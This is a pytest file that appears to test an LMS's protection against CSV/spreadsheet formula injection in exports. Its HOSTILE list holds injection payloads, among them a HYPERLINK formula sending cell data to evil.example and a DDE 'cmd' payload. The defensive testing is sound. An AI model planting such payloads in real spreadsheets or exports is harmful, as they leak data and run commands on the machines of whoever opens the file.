"""No cell of any table of ours is a formula."""

import csv
import io

import pytest

from lms.export import PlainText
from lms.rosters import parser as rosters_parser
from lms.spreadsheets import FORMULA, harmless, original, table_csv

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝１＋１",
    "＋1",
    "－1",
    "＠SUM(1)",
]


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_each_is_a_text_in_every_kind_of_table(text):
    assert PlainText().render(text) == harmless(text)
    tables = [
        table_csv(["name"], [[text]]).decode("utf-8-sig"),
        rosters_parser.write([("a@example.com", text, text)]).removeprefix("\ufeff"),
    ]
    for table in tables:
        for row in list(csv.reader(io.StringIO(table, newline="")))[1:]:
            assert not any(cell.lstrip(" ").startswith(FORMULA) for cell in row)
            assert harmless(text) in row


@pytest.mark.parametrize(
    "text",
    ["a;=1+1", "a; =1+1", "a\n=1+1", "a\r\n@SUM(1)", "a,-2+3", "a;＝１", "x\n=a;=b", "\n=1+1"],
    ids=ascii,
)
@pytest.mark.parametrize("decimal_comma", [False, True])
def test_no_cell_is_a_formula_where_the_separator_is_another(text, decimal_comma):
    table = table_csv(["name", "feedback"], [["Aoi", text]], decimal_comma=decimal_comma).decode("utf-8-sig")
    for separator in ",;":
        for line in table.splitlines():  # a quote in the middle of a cell is no quote
            assert not any(cell.strip(' "').startswith(FORMULA) for cell in line.split(separator))
    assert original(str(harmless(text))) == text


@pytest.mark.parametrize(
    "text",
    [*HOSTILE, "'quoted'", "''=", "山田 花子", "O'Brien", "'t Hooft", "", "a=b", "a; b, c", "- one\n- two"],
    ids=ascii,
)
def test_what_comes_back_is_what_went_out(text):
    assert original(str(harmless(text))) == text


@pytest.mark.parametrize("number", [-1, 1.5, None, 0])
def test_numbers_stay_numbers(number):
    assert harmless(number) is number
